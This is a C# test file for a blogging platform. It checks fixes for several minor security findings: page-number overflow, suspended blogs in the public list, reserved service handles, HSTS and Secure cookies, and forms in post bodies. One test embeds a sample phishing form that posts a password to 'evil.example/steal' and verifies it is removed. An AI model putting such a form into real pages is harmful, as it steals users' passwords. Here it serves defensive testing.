using System.Net.Http.Json;
using Qalam.Accounts;

namespace Qalam.Tests.Blogs;

// Finding 7 of "Strangers may sign up": page numbers that overflowed, hidden blogs in the public API list, handles that
// matter under a wildcard domain, forms in post bodies, no Secure cookies or HSTS on an https install.
[Collection(SharedAppCollection.Name)]
public sealed class LowFindingsTests(SharedApp shared)
{
    private readonly QalamApp _app = shared.App;

    [Fact]
    public async Task The_largest_page_numbers_answer_an_empty_page_or_404_never_the_first_page_or_an_error()
    {
        var blog = await _app.Seed.BlogAsync("en");
        var post = await _app.Seed.PostAsync(blog, "Only one", "Findable words.");
        var reader = _app.Reader();
        const string max = "2147483647";

        var api = await (await reader.GetAsync($"/api/v1/blogs/{blog.Handle}/posts?page={max}&pageSize=100")).JsonAsync(HttpStatusCode.OK);
        var comments = await (await reader.GetAsync($"/api/v1/blogs/{blog.Handle}/posts/{post.Id}/comments?page={max}")).JsonAsync(HttpStatusCode.OK);
        var blogs = await (await reader.GetAsync($"/api/v1/blogs?page={max}")).JsonAsync(HttpStatusCode.OK);
        using var search = await reader.GetAsync($"/{blog.Handle}/search?q=findable&page={max}");

        Assert.Empty(api.GetProperty("items").EnumerateArray());
        Assert.Equal(1, api.GetProperty("total").GetInt32());
        Assert.Empty(comments.GetProperty("items").EnumerateArray());
        Assert.Empty(blogs.GetProperty("items").EnumerateArray());
        Assert.Equal(HttpStatusCode.NotFound, search.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await reader.GetAsync($"/{blog.Handle}/page/{max}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await reader.GetAsync($"/{blog.Handle}/sitemap-{max}.xml")).StatusCode);
    }

    [Fact]
    public async Task The_public_blog_list_leaves_out_suspended_and_unconfirmed_blogs()
    {
        var shown = await _app.Seed.BlogAsync("en");
        var suspended = await _app.Seed.BlogAsync("en");
        var unconfirmed = await _app.Seed.BlogAsync("en");
        await _app.Seed.UpdateBlogAsync(suspended, b => b.Suspend("Spam", DateTime.UtcNow));
        await _app.Seed.UpdateBlogAsync(unconfirmed, b => b.HideUntilConfirmed(needsApproval: false));

        var handles = new List<string>();
        for (var page = 1; ; page++)
        {
            var list = await (await _app.Reader().GetAsync($"/api/v1/blogs?page={page}&pageSize=100")).JsonAsync(HttpStatusCode.OK);
            var items = list.GetProperty("items").EnumerateArray().Select(b => b.GetProperty("handle").GetString()!).ToList();
            handles.AddRange(items);
            if (items.Count < 100)
            {
                break;
            }
        }

        Assert.Contains(shown.Handle, handles);
        Assert.DoesNotContain(suspended.Handle, handles);
        Assert.DoesNotContain(unconfirmed.Handle, handles);
    }

    [Theory]
    [InlineData("autodiscover")]
    [InlineData("autoconfig")]
    [InlineData("wpad")]
    [InlineData("postmaster")]
    [InlineData("abuse")]
    [InlineData("hostmaster")]
    [InlineData("smtp")]
    [InlineData("xn--mgba3a4f16a")]
    public async Task Handles_that_name_services_under_a_wildcard_domain_are_reserved(string handle)
    {
        var state = await (await _app.Reader().GetAsync($"/signup/handle?name={handle}")).JsonAsync(HttpStatusCode.OK);
        Assert.Equal("reserved", state.GetProperty("state").GetString());
    }

    [Fact]
    public async Task Forms_in_a_post_body_reach_neither_the_page_nor_the_feed()
    {
        var blog = await _app.Seed.BlogAsync("en");
        var owner = await _app.Seed.UserAsync();
        await _app.Seed.GrantAsync(blog, owner, BlogRole.Owner);
        var api = _app.Reader().WithToken(await _app.Seed.TokenAsync(owner));
        var created = await (await api.PostAsync($"/api/v1/blogs/{blog.Handle}/posts", JsonContent.Create(new
        {
            title = "Log in again",
            status = "published",
            body = "Text before.\n\n<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Go</button><textarea>t</textarea><select><option>o</option></select></form>\n\nText after.",
        }))).JsonAsync(HttpStatusCode.Created);

        var page = await _app.Reader().GetPageAsync(new Uri(created.GetProperty("url").GetString()!).AbsolutePath);
        var feed = await _app.Reader().GetStringAsync($"/{blog.Handle}/feed.xml");

        Assert.Empty(page.QuerySelectorAll(".post-body form, .post-body input, .post-body button, .post-body textarea, .post-body select"));
        Assert.Contains("Text after.", page.QuerySelector(".post-body").Text(), StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", feed, StringComparison.Ordinal);
        Assert.DoesNotContain("&lt;input", feed, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_install_configured_for_https_sends_HSTS_and_only_Secure_cookies_even_without_a_trusted_proxy()
    {
        await using var database = await TestDatabase.CreateAsync();
        await using var app = new QalamApp(database, settings: new Dictionary<string, string> { ["Qalam:PublicOrigin"] = "https://localhost" });
        var user = await app.Seed.UserAsync();
        var reader = app.CreateClient(new Microsoft.AspNetCore.Mvc.Testing.WebApplicationFactoryClientOptions
        {
            AllowAutoRedirect = false,
            BaseAddress = new Uri("https://localhost"),
        });

        using var home = await reader.GetAsync("/");
        var form = await reader.GetPageAsync("/admin/signin");
        using var signedIn = await reader.SubmitAsync(form, "form", new Dictionary<string, string> { ["Email"] = user.Email!, ["password"] = Seed.Password }, "/admin/signin");
        var cookies = signedIn.Headers.GetValues("Set-Cookie").ToList();

        Assert.Equal("max-age=31536000", home.Headers.GetValues("Strict-Transport-Security").Single());
        Assert.NotEmpty(cookies);
        Assert.All(cookies, c => Assert.Contains("secure", c, StringComparison.OrdinalIgnoreCase));
        await database.DisposeAsync();
    }
}
